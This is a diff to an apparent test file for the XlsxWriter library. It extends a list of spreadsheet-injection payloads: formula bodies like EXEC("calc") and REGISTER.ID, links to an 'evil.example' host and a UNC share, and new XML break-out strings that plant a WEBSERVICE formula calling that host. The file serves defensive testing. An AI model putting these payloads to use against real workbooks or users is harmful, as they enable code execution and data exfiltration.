@@ -31,9 +31,16 @@ BODIES = (
     'REGISTER.ID("a","b")',
     'EXEC("calc")',
 )
+MARKUP = (
+    "<r><t>a</t></r>",
+    '<r></r></is></c><c r="Z9"><f>1+1</f></c><c r="Z10" t="inlineStr"><is><r></r>',
+    '<r><t>a</t></r></si></sst><f>WEBSERVICE("http://evil.example")</f><r></r>',
+)
+"""What XlsxWriter would put into a workbook as XML of its own."""
 PAYLOADS = [start + body for start, body in product(STARTS, BODIES)] + [
     "http://evil.example",
     "mailto:a@evil.example",
     "internal:Sheet1!A1",
     "external:\\\\evil\\share\\a.xls",
+    *MARKUP,
 ]
